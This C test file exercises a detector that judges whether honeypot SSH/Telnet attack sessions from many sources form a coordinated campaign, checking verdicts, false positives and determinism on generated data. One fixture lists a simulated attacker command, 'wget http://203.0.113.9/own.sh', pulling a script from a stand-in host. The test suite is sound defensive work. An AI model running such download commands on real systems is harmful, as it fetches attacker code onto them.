/* test_detect.c - whole analyses of generated data: what is planted is found with the right verdict, what is independent
 * is never called coordinated, and no result depends on threads, order of input or noise. */
#include "testing.h"

#include <math.h>
#include <stdlib.h>

#include "generate/generate.h"
#include "reference/reference.h"
#include "study.h"

enum { SOURCES = 120, SESSIONS = 450 };

/** Generated data with its truth. */
struct scene {
	struct session_table table;
	struct generate_labels labels;
};

static struct scene
generate(const struct generate_config *config)
{
	struct session_builder *builder = session_builder_new();
	struct scene s;
	struct coord_error err;

	assert_non_null(builder);
	if (generate_sessions(config, builder, &s.labels, &err) != COORD_OK)
		fail_msg("%s", err.what);
	assert_int_equal(session_builder_finish(builder, &s.table, NULL, &err), COORD_OK);
	session_builder_free(builder);
	return s;
}

static struct scene
plant(enum generate_structure structure, enum generate_difficulty difficulty, uint32_t members,
    uint64_t seed)
{
	struct generate_plan plan = {
		.structure = structure, .difficulty = difficulty, .members = members, .visits = 0
	};

	return generate(&(struct generate_config){
	    .seed = seed, .sources = SOURCES, .sessions = SESSIONS, .plans = &plan, .n_plans = 1 });
}

static struct scene
plant_nothing(uint64_t seed)
{
	return generate(
	    &(struct generate_config){ .seed = seed, .sources = SOURCES, .sessions = SESSIONS });
}

static void
scene_clear(struct scene *s)
{
	session_table_free(&s->table);
	generate_labels_clear(&s->labels);
}

/* The week before, twice as many independent sources. */
static struct reference *
week_before(uint64_t seed)
{
	struct scene s = generate(&(struct generate_config){ .seed = seed + 1000,
	    .start_us = BATCH_START_US - 7 * 86400 * TIME_SECOND,
	    .sources = 2 * SOURCES,
	    .sessions = 2 * SESSIONS });
	struct reference *ref = study_reference(&s.table);

	scene_clear(&s);
	return ref;
}

static struct detect_result
analyse(const struct session_table *table, const struct reference *ref, struct detect_config config)
{
	struct detect_result r;
	struct coord_error err;

	if (config.threads == 0)
		config.threads = 1;
	if (detect_run(table, ref, &config, &r, &err) != COORD_OK)
		fail_msg("%s", err.what);
	return r;
}

static bool
is_member(const struct scene *s, struct addr a)
{
	for (size_t i = 0; i < s->labels.n; i++)
		if (s->labels.labels[i].group == 1 && addr_cmp(s->labels.labels[i].source, a) == 0)
			return true;
	return false;
}

static uint32_t
members_in(const struct scene *s, const struct detect_campaign *c)
{
	uint32_t n = 0;

	for (uint32_t i = 0; i < c->n_sources; i++)
		n += is_member(s, c->sources[i]);
	return n;
}

/* The campaign with most of the planted group's members. */
static const struct detect_campaign *
planted_campaign(const struct scene *s, const struct detect_result *r)
{
	const struct detect_campaign *best = NULL;
	uint32_t most = 0;

	for (uint32_t i = 0; i < r->n_campaigns; i++)
		if (members_in(s, &r->campaigns[i]) > most) {
			most = members_in(s, &r->campaigns[i]);
			best = &r->campaigns[i];
		}
	return best;
}

static bool
is_coordinated(enum detect_verdict v)
{
	return v == VERDICT_CAMPAIGN || v == VERDICT_SINGLE_ACTOR;
}

static bool
ascending(const struct addr *a, uint32_t n)
{
	for (uint32_t i = 1; i < n; i++)
		if (addr_cmp(a[i - 1], a[i]) >= 0)
			return false;
	return true;
}

/* What detect.h promises of every campaign. */
static void
check_campaign(const struct session_table *t, const struct detect_campaign *c)
{
	assert_true(c->low <= c->confidence && c->confidence <= c->high);
	assert_true(c->low >= 0 && c->high <= 1);
	assert_true(ascending(c->sources, c->n_sources));
	assert_true(c->n_sources >= 2 && c->n_sessions >= c->n_sources);
	for (uint32_t i = 0; i < c->n_sessions; i++) {
		assert_true(c->sessions[i] < t->n);
		assert_true(i == 0 || c->sessions[i - 1] < c->sessions[i]);
	}
	assert_int_equal(strlen(c->key), 16);
	assert_true(c->reason != NULL && c->reason[0] != 0);
	assert_true(c->first_us <= c->last_us);
	for (uint32_t i = 0; i < c->n_artefacts; i++) {
		const struct detect_artefact *a = &c->artefacts[i];

		assert_true(a->sources >= 2 && a->sources <= c->n_sources);
		assert_true(ascending(a->carriers, a->sources));
		assert_true(a->is_public ? a->log_bayes == 0 : a->log_bayes > 0);
	}
	for (enum detect_channel ch = 0; ch < CHANNEL_COUNT; ch++) {
		const struct detect_evidence *e = &c->evidence[ch];

		assert_int_equal(e->channel, ch);
		assert_true(isnan(e->p) || (e->p > 0 && e->p <= 1));
		assert_true(isnan(e->similarity) || (e->similarity >= 0 && e->similarity <= 1));
		assert_non_null(e->detail);
	}
	for (uint32_t i = 0; i < c->n_counterfactuals; i++)
		assert_true(
		    c->counterfactuals[i].confidence > 0 && c->counterfactuals[i].confidence < 1);
}

static void
check_result(const struct session_table *t, const struct detect_result *r)
{
	assert_int_equal(r->sessions, t->n);
	assert_true(isnan(r->confidence) || (r->low <= r->confidence && r->confidence <= r->high));
	assert_true(r->coverage >= 0 && r->coverage <= 1);
	assert_non_null(r->reason);
	assert_int_equal(strlen(r->config_hash), 64);
	for (uint32_t i = 0; i < r->n_campaigns; i++)
		check_campaign(t, &r->campaigns[i]);
}

static void
expect_planted(enum generate_structure structure, uint32_t members, enum detect_verdict verdict,
    uint64_t seed, bool with_reference)
{
	struct scene s = plant(structure, DIFFICULTY_STANDARD, members, seed);
	struct reference *ref = with_reference ? week_before(seed) : NULL;
	struct detect_result r =
	    analyse(&s.table, ref, (struct detect_config){ .depth = DEPTH_STANDARD });
	const struct detect_campaign *c = planted_campaign(&s, &r);

	check_result(&s.table, &r);
	assert_non_null(c);
	assert_int_equal(c->verdict, verdict);
	assert_true(members_in(&s, c) * 10 >= 9 * members);
	assert_true(members_in(&s, c) * 10 >= 9 * c->n_sources);
	if (with_reference)
		assert_true(c->confidence >= 0.9 && c->low >= 0.8);
	else
		assert_true(c->confidence == 0.8 && c->high == 0.8);
	assert_int_equal(r.verdict, verdict);
	assert_int_equal(r.reference_given, with_reference);
	assert_string_equal(r.reference_hash, with_reference ? reference_hash(ref) : "batch");
	assert_true(r.coverage > 0);
	detect_result_clear(&r);
	reference_close(ref);
	scene_clear(&s);
}

static uint64_t
seeds(uint64_t full)
{
	return test_quick() ? 1 : full;
}

static void
test_botnet(void **state)
{
	(void)state;
	for (uint64_t seed = 1; seed <= seeds(3); seed++) {
		expect_planted(STRUCTURE_C1, 20, VERDICT_CAMPAIGN, seed, true);
		expect_planted(STRUCTURE_C1, 20, VERDICT_CAMPAIGN, seed, false);
	}
}

static void
test_adjacent_addresses(void **state)
{
	(void)state;
	for (uint64_t seed = 1; seed <= seeds(3); seed++) {
		expect_planted(STRUCTURE_H2B, 12, VERDICT_SINGLE_ACTOR, seed, true);
		expect_planted(STRUCTURE_H2B, 12, VERDICT_SINGLE_ACTOR, seed, false);
	}
}

static void
expect_nothing(const struct session_table *table, const struct reference *ref,
    struct detect_config config, const char *what, uint64_t seed)
{
	struct detect_result r;

	config.depth = DEPTH_STANDARD;
	r = analyse(table, ref, config);
	check_result(table, &r);
	for (uint32_t i = 0; i < r.n_campaigns; i++)
		if (r.campaigns[i].confidence >= 0.9 || is_coordinated(r.campaigns[i].verdict))
			fail_msg("%s, seed %u: confidence %.3f, verdict %s: %s", what,
			    (unsigned)seed, r.campaigns[i].confidence,
			    detect_verdict_name(r.campaigns[i].verdict), r.campaigns[i].reason);
	assert_false(is_coordinated(r.verdict));
	detect_result_clear(&r);
}

/* Independent actors with one public tool and wordlist. */
static void
test_copy_cats(void **state)
{
	(void)state;
	for (uint64_t seed = 1; seed <= seeds(6); seed++) {
		struct scene s = plant(STRUCTURE_HN1, DIFFICULTY_STANDARD, 30, seed);
		struct reference *ref = week_before(seed);

		expect_nothing(
		    &s.table, ref, (struct detect_config){ .worlds = 0 }, "copy-cats", seed);
		reference_close(ref);
		scene_clear(&s);
	}
}

static void
test_independent_sources(void **state)
{
	(void)state;
	for (uint64_t seed = 1; seed <= (test_quick() ? 2u : 20u); seed++) {
		struct scene s = plant_nothing(seed);
		struct reference *ref = week_before(seed);

		expect_nothing(
		    &s.table, ref, (struct detect_config){ .worlds = 0 }, "background", seed);
		reference_close(ref);
		scene_clear(&s);
	}
}

/* A null world in the batch's place, and copies of the batch with every coordination destroyed. */
static void
test_decoordinated(void **state)
{
	struct scene s = plant(STRUCTURE_C1, DIFFICULTY_EASY, 20, 5);
	struct reference *ref = week_before(5);

	(void)state;
	for (uint32_t k = 1; k <= (test_quick() ? 1u : 2u); k++) {
		struct session_builder *builder = session_builder_new();
		struct session_table copy;
		struct coord_error err;

		expect_nothing(
		    &s.table, ref, (struct detect_config){ .decoordinate = k }, "world", k);
		assert_int_equal(generate_decoordinate(&s.table, k, builder, &err), COORD_OK);
		assert_int_equal(session_builder_finish(builder, &copy, NULL, &err), COORD_OK);
		session_builder_free(builder);
		expect_nothing(&copy, ref, (struct detect_config){ .worlds = 0 }, "copy", k);
		session_table_free(&copy);
	}
	reference_close(ref);
	scene_clear(&s);
}

static void
test_one_busy_source(void **state)
{
	struct batch *b = batch_new();
	struct session_table table;
	struct detect_result r;

	(void)state;
	for (uint32_t i = 0; i < 500; i++)
		batch_add(b, &(struct batch_session){ .ip = 0x0a000001,
				 .at_s = 1111.0 * i,
				 .service = i % 2 == 0 ? SERVICE_SSH : SERVICE_TELNET,
				 .credentials = { "root private" },
				 .key = "SHA256:own",
				 .commands = { "wget http://203.0.113.9/own.sh" } });
	table = batch_finish(b);
	for (uint32_t group = 0; group < 2; group++) {
		r = analyse(&table, NULL, (struct detect_config){ .group = group == 1 });
		check_result(&table, &r);
		assert_int_equal(r.verdict, VERDICT_INSUFFICIENT);
		assert_int_equal(r.n_campaigns, 0);
		assert_true(isnan(r.confidence));
		assert_non_null(strstr(r.reason, "One source"));
		detect_result_clear(&r);
	}
	session_table_free(&table);
}

static void
test_empty_table(void **state)
{
	struct session_table table = batch_finish(batch_new());
	struct detect_result r = analyse(&table, NULL, (struct detect_config){ .worlds = 0 });

	(void)state;
	assert_int_equal(r.verdict, VERDICT_INSUFFICIENT);
	assert_true(isnan(r.confidence));
	assert_int_equal(r.n_campaigns, 0);
	assert_non_null(r.reason);
	detect_result_clear(&r);
	session_table_free(&table);
}

/* A quiet batch in which nothing could be found says so, and never "coincidental". */
static void
test_quiet_batch_has_no_power(void **state)
{
	struct batch *b = batch_new();
	struct session_table table;
	struct detect_result r;

	(void)state;
	for (uint32_t i = 0; i < 20; i++)
		batch_add(
		    b, &(struct batch_session){ .ip = 0x0a000000 + (i << 16), .at_s = 5000.0 * i });
	table = batch_finish(b);
	r = analyse(&table, NULL, (struct detect_config){ .worlds = 0 });
	check_result(&table, &r);
	assert_int_equal(r.verdict, VERDICT_INSUFFICIENT);
	assert_int_equal(r.n_campaigns, 0);
	detect_result_clear(&r);
	session_table_free(&table);
}

/* Many busy independent sources, and nothing stands out: that is a finding. */
static void
test_loud_batch_is_coincidental(void **state)
{
	struct batch *b = batch_new();
	struct session_table table;
	struct detect_result r;

	(void)state;
	for (uint32_t i = 0; i < 250; i++)
		for (uint32_t v = 0; v < 30; v++) {
			struct rng rng = rng_at(3, 1, i, v);

			batch_add(b, &(struct batch_session){ .ip = 0x0a000000 + (i << 16),
					 .at_s = 30 * 86400 * rng_uniform(&rng) });
		}
	table = batch_finish(b);
	r = analyse(&table, NULL, (struct detect_config){ .worlds = 39 });
	check_result(&table, &r);
	assert_int_equal(r.n_campaigns, 0);
	assert_int_equal(r.verdict, VERDICT_COINCIDENTAL);
	assert_true(r.confidence < 0.1);
	detect_result_clear(&r);
	session_table_free(&table);
}

/* Only the members of a scene, as an analyst would submit them. */
static struct session_table
members_only(const struct scene *s)
{
	struct batch *b = batch_new();
	bool *skip = calloc(s->table.n, sizeof(*skip));

	assert_non_null(skip);
	for (uint32_t i = 0; i < s->table.n; i++)
		skip[i] = !is_member(s, s->table.source[i]);
	batch_add_table(b, &s->table, 1, skip);
	free(skip);
	return batch_finish(b);
}

static void
test_group_mode(void **state)
{
	static const char *const selected[] = { NULL, "artefact", "time", "behavior",
		"infrastructure", "dictionary", "payload", "synchrony" };
	struct scene s = plant(STRUCTURE_C1, DIFFICULTY_EASY, 20, 3);
	struct session_table group = members_only(&s);
	struct reference *ref = week_before(3);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(selected); i++) {
		struct detect_result r = analyse(&group, ref,
		    (struct detect_config){
			.group = true, .selected_by = selected[i], .depth = DEPTH_STANDARD });
		uint32_t excluded = 0;

		check_result(&group, &r);
		assert_int_equal(r.n_campaigns, 1);
		assert_int_equal(r.campaigns[0].n_sessions, group.n);
		assert_true(isnan(r.campaigns[0].p_world) && isnan(r.campaigns[0].stability));
		for (enum detect_channel c = 0; c < CHANNEL_COUNT; c++)
			if (r.campaigns[0].evidence[c].excluded) {
				excluded++;
				assert_true(isnan(r.evidence[c])); /* not shown as a likeness */
			}
		if (selected[i] == NULL || strcmp(selected[i], "time") != 0)
			assert_int_equal(excluded, selected[i] != NULL);
		else /* a family: every channel that looks at times */
			assert_true(excluded > 1);
		if (selected[i] == NULL)
			assert_true(r.campaigns[0].confidence >= 0.9);
		detect_result_clear(&r);
	}
	reference_close(ref);
	session_table_free(&group);
	scene_clear(&s);
}

static void
test_bad_configuration(void **state)
{
	static const struct {
		struct detect_config config;
		const char *what;
	} cases[] = {
		{ { .selected_by = "time" }, "group mode" },
		{ { .group = true, .selected_by = "luck" }, "selected_by" },
		{ { .fdr = 1 }, "between 0 and 1" },
		{ { .fdr = -0.1 }, "between 0 and 1" },
		{ { .prior = 1.5 }, "between 0 and 1" },
		{ { .prior = NAN }, "between 0 and 1" },
		{ { .depth = (enum detect_depth)7 }, "depth" },
	};
	struct scene s = plant_nothing(1);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct detect_result r;
		struct coord_error err = { .what = "" };

		assert_int_equal(
		    detect_run(&s.table, NULL, &cases[i].config, &r, &err), COORD_EINVALID);
		if (strstr(err.what, cases[i].what) == NULL)
			fail_msg("%s", err.what);
	}
	scene_clear(&s);
}

/* Every number of a result, exactly. */
static void
digest(const struct detect_result *r, struct buf *out)
{
	buf_printf(out, "%d %a %a %a %a %llx %s\n", r->verdict, r->confidence, r->low, r->high,
	    r->coverage, (unsigned long long)r->seed, r->reason);
	for (uint32_t i = 0; i < r->n_campaigns; i++) {
		const struct detect_campaign *c = &r->campaigns[i];

		buf_printf(out, "%s %s %d %a %a %a %a %a %u %u %u %u %s\n", c->id, c->key,
		    c->verdict, c->confidence, c->low, c->high, c->p_world, c->stability,
		    c->n_sources, c->n_sessions, c->nodes, c->visits, c->reason);
		for (uint32_t k = 0; k < c->n_sessions; k++)
			buf_printf(out, "%u ", c->sessions[k]);
		for (enum detect_channel ch = 0; ch < CHANNEL_COUNT; ch++) {
			const struct detect_evidence *e = &c->evidence[ch];

			buf_printf(out, "\n%d %a %a %a %u %u %s", e->defining, e->p, e->effect,
			    e->log_e, e->n, e->worlds, e->detail);
			for (uint32_t k = 0; k < e->n_top; k++)
				buf_printf(out, "\n%s %a", e->top[k].what, e->top[k].weight);
		}
		for (uint32_t k = 0; k < c->n_counterfactuals; k++)
			buf_printf(out, "\n%s %a", c->counterfactuals[k].without,
			    c->counterfactuals[k].confidence);
	}
	assert_false(out->failed);
}

static void
test_determinism(void **state)
{
	struct scene s = plant(STRUCTURE_C1, DIFFICULTY_STANDARD, 20, 4);
	struct batch *b = batch_new();
	struct session_table shuffled;
	struct buf want = BUF_INIT(1 << 22);

	(void)state;
	batch_add_table(b, &s.table, 17, NULL);
	shuffled = batch_finish(b);
	for (unsigned k = 0; k < 4; k++) {
		struct buf got = BUF_INIT(1 << 22);
		struct detect_result r = analyse(k % 2 == 0 ? &s.table : &shuffled, NULL,
		    (struct detect_config){ .threads = k < 2 ? 1 : 2, .worlds = 99 });

		digest(&r, k == 0 ? &want : &got);
		if (k > 0)
			assert_string_equal(buf_cstr(&want), buf_cstr(&got));
		buf_clear(&got);
		detect_result_clear(&r);
	}
	buf_clear(&want);
	session_table_free(&shuffled);
	scene_clear(&s);
}

/* Another seed, depth, prior ... is another configuration and says so. */
static void
test_configuration_is_named(void **state)
{
	static const struct detect_config others[] = { { .worlds = 39 },
		{ .worlds = 39, .seed = 7 }, { .worlds = 39, .prior = 0.2 },
		{ .worlds = 39, .fdr = 0.05 }, { .worlds = 39, .draws_most = 999 },
		{ .depth = DEPTH_MINIMAL } };
	struct scene s = plant_nothing(2);
	char hash[COUNT_OF(others)][65];

	(void)state;
	for (size_t i = 0; i < COUNT_OF(others); i++) {
		struct detect_result r = analyse(&s.table, NULL, others[i]);

		(void)snprintf(hash[i], sizeof(hash[i]), "%s", r.config_hash);
		for (size_t j = 0; j < i; j++)
			assert_string_not_equal(hash[i], hash[j]);
		if (others[i].worlds == 0)
			assert_int_equal(r.worlds, 0);
		detect_result_clear(&r);
	}
	scene_clear(&s);
}

/* Without null worlds what was found by likeness is never more than a suspicion. */
static void
test_minimal_depth(void **state)
{
	struct scene s = plant(STRUCTURE_C1, DIFFICULTY_EASY, 20, 3);
	struct reference *ref = week_before(3);
	struct detect_result r =
	    analyse(&s.table, ref, (struct detect_config){ .depth = DEPTH_MINIMAL });

	(void)state;
	check_result(&s.table, &r);
	for (uint32_t i = 0; i < r.n_campaigns; i++) {
		assert_true(isnan(r.campaigns[i].p_world));
		if (r.campaigns[i].evidence[CHANNEL_ARTEFACT].abstained)
			assert_true(r.campaigns[i].confidence <= 0.5);
	}
	detect_result_clear(&r);
	reference_close(ref);
	scene_clear(&s);
}

static uint32_t
provider_of(void *context, struct addr a)
{
	(void)context;
	return (uint32_t)a.bytes[12] << 8 | a.bytes[13];
}

static void
count_progress(void *context, const char *stage, double share)
{
	assert_non_null(stage);
	assert_true(share >= 0 && share <= 1);
	++*(unsigned *)context;
}

static void
test_callbacks(void **state)
{
	struct scene s = plant(STRUCTURE_H2B, DIFFICULTY_STANDARD, 12, 6);
	unsigned told = 0;
	struct detect_result r = analyse(&s.table, NULL,
	    (struct detect_config){ .worlds = 39,
		.progress = count_progress,
		.progress_context = &told,
		.asn_of = provider_of });

	(void)state;
	check_result(&s.table, &r);
	assert_true(told > 3);
	assert_true(r.n_profile > 0);
	assert_non_null(planted_campaign(&s, &r));
	detect_result_clear(&r);
	scene_clear(&s);
}

/* A scene with more rows: of another scene's background, or none of some members. */
static struct session_table
join_tables(const struct session_table *a, const struct session_table *b, const bool *skip)
{
	struct batch *into = batch_new();

	batch_add_table(into, a, 3, skip);
	if (b != NULL)
		batch_add_table(into, b, 4, NULL);
	return batch_finish(into);
}

static double
planted_confidence(
    const struct scene *s, const struct session_table *table, const struct reference *ref)
{
	struct detect_result r =
	    analyse(table, ref, (struct detect_config){ .depth = DEPTH_STANDARD });
	const struct detect_campaign *c = planted_campaign(s, &r);
	double confidence = c == NULL ? 0 : c->confidence;

	detect_result_clear(&r);
	return confidence;
}

/* Sources that have nothing to do with anything. */
static struct session_table
make_noise(uint64_t seed, uint32_t sources)
{
	struct batch *b = batch_new();

	for (uint32_t i = 0; i < sources; i++) {
		struct rng rng = rng_at(seed, 1, 0, i);

		for (uint32_t v = 0; v < 4; v++) {
			char word[32], command[32];

			(void)snprintf(word, sizeof(word), "n%u w%u", i, rng_below(&rng, 9));
			(void)snprintf(command, sizeof(command), "echo %c%c", 'a' + (int)(i % 26),
			    'a' + (int)rng_below(&rng, 26));
			batch_add(b, &(struct batch_session){
					 .ip = 0x30000000 + (i << 16) + rng_below(&rng, 5),
					 .at_s = 7 * 86400 * rng_uniform(&rng),
					 .hassh = "0123456789abcdef0123456789abcdef",
					 .credentials = { word },
					 .commands = { command } });
		}
	}
	return batch_finish(b);
}

static void
test_noise_does_not_raise(void **state)
{
	(void)state;
	for (uint64_t seed = 1; seed <= seeds(4); seed++) {
		struct scene s = plant(STRUCTURE_C1, DIFFICULTY_HARD, 12, seed);
		struct session_table noise = make_noise(seed, 60);
		struct session_table noisy = join_tables(&s.table, &noise, NULL);
		struct reference *ref = week_before(seed);
		double before = planted_confidence(&s, &s.table, ref);
		double after = planted_confidence(&s, &noisy, ref);

		print_message("seed %u: %.3f, with noise %.3f\n", (unsigned)seed, before, after);
		/* weak: noise makes what is shared rarer, and far below any verdict the number moves with that */
		assert_true(after <= before + 0.05 || after <= 0.5);
		reference_close(ref);
		session_table_free(&noisy);
		session_table_free(&noise);
		scene_clear(&s);
	}
}

static void
test_members_do_not_lower(void **state)
{
	(void)state;
	for (uint64_t seed = 1; seed <= seeds(4); seed++) {
		struct scene s = plant(STRUCTURE_C1, DIFFICULTY_STANDARD, 24, seed);
		struct reference *ref = week_before(seed);
		bool *skip = calloc(s.table.n, sizeof(*skip));
		struct session_table half;
		double before, after;

		assert_non_null(skip);
		for (uint32_t i = 0; i < s.table.n; i++)
			skip[i] = is_member(&s, s.table.source[i]) &&
				  s.table.source[i].bytes[15] % 2 == 0;
		half = join_tables(&s.table, NULL, skip);
		before = planted_confidence(&s, &half, ref);
		after = planted_confidence(&s, &s.table, ref);
		print_message(
		    "seed %u: half of them %.3f, all %.3f\n", (unsigned)seed, before, after);
		assert_true(after >= before - 0.01); /* p-values are drawn: their noise remains */
		free(skip);
		reference_close(ref);
		session_table_free(&half);
		scene_clear(&s);
	}
}

static void
test_names(void **state)
{
	(void)state;
	assert_string_equal(detect_verdict_name(VERDICT_CAMPAIGN), "coordinated_campaign");
	assert_string_equal(
	    detect_verdict_name(VERDICT_SINGLE_ACTOR), "single_actor_multiple_sources");
	assert_string_equal(detect_channel_name(CHANNEL_SYNCHRONY), "synchrony");
	assert_string_equal(detect_channel_key(CHANNEL_PAYLOAD), "payload_similarity");
	assert_null(detect_channel_key(CHANNEL_ARTEFACT));
	assert_non_null(detect_channel_title(CHANNEL_ARTEFACT));
}

/* An argument names the tests to run (a pattern of cmocka's): the thread sanitizer needs only one of them. */
int
main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_botnet),
		cmocka_unit_test(test_adjacent_addresses),
		cmocka_unit_test(test_copy_cats),
		cmocka_unit_test(test_independent_sources),
		cmocka_unit_test(test_decoordinated),
		cmocka_unit_test(test_one_busy_source),
		cmocka_unit_test(test_empty_table),
		cmocka_unit_test(test_quiet_batch_has_no_power),
		cmocka_unit_test(test_loud_batch_is_coincidental),
		cmocka_unit_test(test_group_mode),
		cmocka_unit_test(test_bad_configuration),
		cmocka_unit_test(test_determinism),
		cmocka_unit_test(test_configuration_is_named),
		cmocka_unit_test(test_minimal_depth),
		cmocka_unit_test(test_callbacks),
		cmocka_unit_test(test_noise_does_not_raise),
		cmocka_unit_test(test_members_do_not_lower),
		cmocka_unit_test(test_names),
	};

	if (argc > 1)
		cmocka_set_test_filter(argv[1]);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
